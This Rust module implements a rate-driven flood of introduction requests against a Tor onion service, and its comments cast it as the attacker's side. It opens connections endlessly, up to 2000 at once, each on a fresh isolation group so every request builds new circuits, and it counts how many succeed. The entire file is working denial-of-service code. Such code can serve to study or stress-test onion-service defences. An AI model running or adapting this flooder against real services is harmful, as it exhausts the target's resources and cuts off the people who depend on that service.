//! Introductions, one after the other at a rate, each on circuits of its own.

use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use arti_client_visiting::StreamPrefs;
use tokio::sync::Semaphore;
use tokio::time::{interval, timeout, MissedTickBehavior};

use crate::Visitor;

/// Introductions under way at once; more than that are not begun.
const UNDER_WAY: usize = 2000;

/// An attacker waits no longer for one.
const PATIENCE: Duration = Duration::from_secs(20);

/// A flood of one onion service.
pub(crate) struct Flood {
    visitor: Visitor,
    host: String,
    counts: Arc<Counts>,
}

#[derive(Default)]
struct Counts {
    begun: AtomicU64,
    met: AtomicU64,
}

impl Flood {
    pub(crate) fn new(visitor: Visitor, host: String) -> Self {
        let counts = Arc::default();
        Self {
            visitor,
            host,
            counts,
        }
    }

    /// Makes `rate` introductions a second, for ever.
    pub(crate) async fn run(&self, rate: u32) {
        let room = Arc::new(Semaphore::new(UNDER_WAY));
        let mut due = interval(Duration::from_secs(1) / rate.max(1));
        due.set_missed_tick_behavior(MissedTickBehavior::Burst);
        loop {
            due.tick().await;
            let Ok(permit) = Arc::clone(&room).try_acquire_owned() else {
                continue;
            };
            self.counts.begun.fetch_add(1, Ordering::Relaxed);
            let (visitor, host) = (Arc::clone(&self.visitor), self.host.clone());
            let counts = Arc::clone(&self.counts);
            tokio::spawn(async move {
                let mut preferences = StreamPrefs::new();
                preferences.new_isolation_group();
                let visit = visitor.connect_with_prefs((host, 80), &preferences);
                if matches!(timeout(PATIENCE, visit).await, Ok(Ok(_))) {
                    counts.met.fetch_add(1, Ordering::Relaxed);
                }
                drop(permit);
            });
        }
    }
}

impl fmt::Display for Flood {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        let begun = self.counts.begun.load(Ordering::Relaxed);
        let met = self.counts.met.load(Ordering::Relaxed);
        write!(out, "{begun} introductions begun, {met} met")
    }
}
